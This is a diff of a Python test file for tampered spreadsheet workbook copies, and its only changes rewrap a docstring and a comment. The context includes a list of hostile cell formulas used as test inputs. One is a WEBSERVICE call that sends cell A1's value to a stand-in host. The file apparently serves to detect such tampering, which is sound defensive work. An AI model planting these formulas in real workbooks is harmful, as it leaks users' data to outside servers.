@@ -1,4 +1,6 @@
-"""Copies that were tampered with: whatever comes back live is either what was sent, or it is listed."""
+"""Copies that were tampered with: whatever comes back live is either what was sent, or it is
+listed.
+"""
 
 import io
 import os
@@ -21,7 +23,8 @@ from workbook_template.user_errors import BookError
 pytestmark = pytest.mark.usefixtures("quick_engine")
 
 DOSE = "ACID_DOSE(A1,B1,C1,D1,E1,F1)"
-#: What a stranger may write into a cell of the copy, or into the hidden sheet in place of a formula.
+#: What a stranger may write into a cell of the copy, or into the hidden sheet in place of a
+#: formula.
 HOSTILE = {
     "WEBSERVICE": 'WEBSERVICE("http://example.invalid/?"&A1)',
     "RTD": 'RTD("prog.id",,"topic")',
